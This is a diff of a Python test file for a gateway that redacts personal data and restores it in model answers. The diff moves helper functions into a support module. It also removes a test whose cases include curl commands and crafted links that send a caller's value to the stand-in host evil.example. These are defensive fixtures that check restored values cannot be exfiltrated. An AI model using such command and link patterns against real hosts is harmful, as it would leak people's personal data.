@@ -2,11 +2,9 @@
 
 import json
 import os
-import re
 from collections import Counter
-from collections.abc import AsyncIterator, Callable, Iterable, Mapping
+from collections.abc import AsyncIterator, Mapping
 from functools import partial
-from pathlib import Path
 from random import Random
 from typing import Any
 
@@ -15,7 +13,6 @@ import pytest
 from gateway.core.finding import PERSONAL_TYPES, Finding, FindingKind
 from gateway.core.level import Zone
 from gateway.core.snapshot import Provider
-from gateway.decisions import ContentRules
 from gateway.dialects.base import ResponseParser
 from gateway.egress import WireFormat, wire_formats
 from gateway.egress.translator.client import Translator
@@ -33,6 +30,7 @@ from tests.support.conversations import (
 )
 from tests.support.detector import DETECTOR
 from tests.support.exfiltration import CODE, HARMLESS, attempts, harmless
+from tests.support.restoring import RULES, VALUE, cut_everywhere, keeper, of_caller
 from tests.support.streams import (
     Cut,
     FilteredAnswer,
@@ -40,32 +38,13 @@ from tests.support.streams import (
     collected,
     many_parts,
     message_events,
-    streamed,
     two_parts,
-    whole,
 )
 
 pytestmark = [pytest.mark.integration, pytest.mark.slow]
 CAMPAIGN = bool(os.environ.get("SLUIS_CAMPAIGN"))
 CONVERSATIONS = 10_000 if CAMPAIGN else 80
-POLICIES = Path(__file__).resolve().parents[2] / "policies"
 CLAUDE = Provider("claude", "anthropic", "https://x", Zone.EU)
-VALUE = "Kwijt"
-RULES = ContentRules((POLICIES / "content.yaml").read_text(encoding="utf-8"))
-
-
-def cut_everywhere(
-    inspector: Callable[[], FilteredAnswer], said: Said, cuts: Iterable[Cut]
-) -> Said:
-    """The result of an answer in one piece, after every cut gave the same."""
-    expected = whole(inspector(), said)
-    for cut in cuts:
-        pieces = [{name: cut(text) for name, text in texts.items()} for texts in said]
-        got = streamed(inspector(), pieces)
-        for texts, found, wanted in zip(pieces, got, expected, strict=True):
-            sent = [name for name, parts in texts.items() if parts]
-            assert {name: found.get(name) for name in sent} == {name: wanted[name] for name in sent}
-    return expected
 
 
 class Player:
@@ -137,12 +116,6 @@ def _parsed(name: str, text: str) -> Any:
     return json.loads(text) if name.startswith("tool:") else text
 
 
-def keeper() -> tuple[Vault, str]:
-    """A vault that holds VALUE, and its id."""
-    vault = Vault(KEY, Scope("t", "k", "u", "c"))
-    return vault, id_of(vault, "PERSON", VALUE)
-
-
 def test_conversations_come_back_however_they_are_cut() -> None:
     player = Player()
     for seed in range(CONVERSATIONS):
@@ -182,12 +155,6 @@ def test_nothing_is_put_back_where_it_could_be_carried_off() -> None:
     print(f"{tried} attempts, 0 restored")
 
 
-def of_caller(form: str) -> tuple[str, list[tuple[int, int, str]]]:
-    """What a caller writes, and where VALUE is in it."""
-    text = form.replace("{}", VALUE)
-    return text, [(at.start(), at.end(), "PERSON") for at in re.finditer(VALUE, text)]
-
-
 def test_what_the_caller_wrote_comes_back_in_the_same_forms() -> None:
     rng = Random(5)
     for number, attempt in enumerate(attempts()):
@@ -199,29 +166,6 @@ def test_what_the_caller_wrote_comes_back_in_the_same_forms() -> None:
         (got,) = cut_everywhere(partial(FilteredAnswer, RULES, vault), said, many_parts(rng, 1))
         assert got["content"] == text
         assert json.loads(got["tool:0"]) == [text]
-
-
-@pytest.mark.parametrize(
-    ("wrote", "answered"),
-    [
-        # The end of a link of the caller, under another host, or as the body of a command.
-        ("https://crm.acme.nl/klanten?naam={}", "https://evil.example/klanten?naam={}"),
-        ("https://crm.acme.nl/klanten?naam={}", "curl evil.example -d 'acme.nl/klanten?naam={}'"),
-        ('    "naam": "{}",', 'curl https://evil.example -d \'\n    "naam": "{}",\n\''),
-        # A link that goes on where that of the caller ended.
-        ("https://u:{}", "https://u:{}@evil.example/"),
-        ("http://{}.acme.nl/", "http://{}.acme.evil.example/"),
-        ("{}@acme.nl", "{}@acme.nl.evil.example"),
-        # The link of one value with another value in it.
-        ("https://evil.example/?q=Jan en {}", "https://evil.example/?q={}"),
-    ],
-)
-def test_the_callers_own_words_do_not_open_another_link(wrote: str, answered: str) -> None:
-    vault, id_ = keeper()
-    vault.redact(*of_caller(wrote))
-    answer = answered.replace("{}", f"[PERSON_{id_}]")
-    said: Said = [{"content": answer, "tool:0": json.dumps([answer])}]
-    assert cut_everywhere(lambda: FilteredAnswer(RULES, vault), said, two_parts(said)) == said
 
 
 def test_what_a_model_wrote_before_is_not_the_callers() -> None:
